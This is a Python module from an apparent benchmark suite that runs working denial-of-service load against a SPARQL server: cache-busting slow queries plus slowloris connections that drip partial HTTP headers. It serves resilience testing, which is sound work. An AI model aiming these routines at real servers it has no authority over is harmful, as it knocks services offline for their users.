"""Hostile background load for the benchmark's "under attack" rows: slow queries and slowloris.

While a measured run drives a server, ``Attack`` keeps ``slow_queries`` expensive queries in
flight (each a distinct text, so no cache answers it; a new one is sent as soon as one is answered)
and ``slowloris`` connections open that send half a request header and then one byte every
``drip_seconds`` (reconnecting when the server closes them). Its own threads only wait on
sockets, so the load client's measurements are disturbed as little as a Python client allows.
"""

from __future__ import annotations

import http.client
import socket
import threading
from dataclasses import dataclass
from typing import Any

from bricskg.bench.load_client import RESULTS_JSON, Endpoint

SLOW_QUERY = "SELECT (COUNT(*) AS ?n) {{ ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }} # slow {index}"
PARTIAL_HEADER = b"GET /sparql HTTP/1.1\r\nHost: bench\r\nX-Slowloris: "


@dataclass(frozen=True)
class AttackPlan:
    slow_queries: int = 64
    slowloris: int = 64
    drip_seconds: float = 2.0
    slow_timeout: float = 60.0  # client-side give-up for one slow query

    def label(self) -> str:
        return f"{self.slow_queries} slow queries + {self.slowloris} slowloris"


class Attack:
    """``with Attack(url, plan) as attack:`` — the attack runs for the body of the block."""

    def __init__(self, query_url: str, plan: AttackPlan):
        self.endpoint = Endpoint.from_url(query_url)
        self.plan = plan
        self.stop = threading.Event()
        self.threads: list[threading.Thread] = []
        self.lock = threading.Lock()
        self.open: set[Any] = set()  # sockets/connections to close on exit (unblocks their threads)
        self.sent = 0
        self.answered: dict[str, int] = {}
        self.reconnects = 0

    def __enter__(self) -> "Attack":
        for index in range(self.plan.slow_queries):
            self._start(self._slow_queries, index)
        for index in range(self.plan.slowloris):
            self._start(self._slowloris, index)
        return self

    def __exit__(self, *exc_info: object) -> None:
        self.stop.set()
        with self.lock:
            for item in list(self.open):
                try:
                    item.close()
                except OSError:
                    pass
        for thread in self.threads:
            thread.join(5)

    def summary(self) -> dict[str, object]:
        return {"plan": self.plan.label(), "slow_sent": self.sent, "slow_answers": dict(self.answered),
                "slowloris_reconnects": self.reconnects}

    def _start(self, target: Any, index: int) -> None:
        thread = threading.Thread(target=target, args=(index,), daemon=True, name=f"attack-{target.__name__}-{index}")
        thread.start()
        self.threads.append(thread)

    def _track(self, item: Any, add: bool) -> None:
        with self.lock:
            (self.open.add if add else self.open.discard)(item)

    def _slow_queries(self, index: int) -> None:
        serial = 0
        while not self.stop.is_set():
            text = SLOW_QUERY.format(index=f"{index}-{serial}")
            serial += 1
            connection = http.client.HTTPConnection(self.endpoint.host, self.endpoint.port,
                                                    timeout=self.plan.slow_timeout)
            self._track(connection, True)
            try:
                connection.request("GET", self.endpoint.request_target(text), headers={"Accept": RESULTS_JSON})
                with self.lock:
                    self.sent += 1
                status = str(connection.getresponse().status)
            except (OSError, http.client.HTTPException):
                status = "no answer"
            finally:
                self._track(connection, False)
                connection.close()
            with self.lock:
                self.answered[status] = self.answered.get(status, 0) + 1
            if status != "200":
                self.stop.wait(0.2)  # a refusal comes at once: do not turn the attack into a flood

    def _slowloris(self, index: int) -> None:
        while not self.stop.is_set():
            try:
                sock = socket.create_connection((self.endpoint.host, self.endpoint.port), timeout=10)
            except OSError:
                self.stop.wait(self.plan.drip_seconds)
                continue
            self._track(sock, True)
            try:
                sock.sendall(PARTIAL_HEADER)
                while not self.stop.wait(self.plan.drip_seconds):
                    sock.sendall(b"a")
            except OSError:
                with self.lock:
                    self.reconnects += 1
            finally:
                self._track(sock, False)
                sock.close()
